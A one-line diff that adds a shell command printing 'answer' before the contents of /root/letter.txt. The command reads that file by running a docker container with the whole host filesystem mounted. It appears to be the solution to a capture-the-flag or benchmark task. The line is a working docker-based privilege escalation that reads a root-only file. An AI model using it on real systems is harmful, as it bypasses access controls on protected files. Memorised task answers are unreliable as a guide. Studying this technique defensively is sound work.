@@ -1,0 +1,1 @@
+echo "answer $(docker run -v /:/host busybox cat /host/root/letter.txt)"
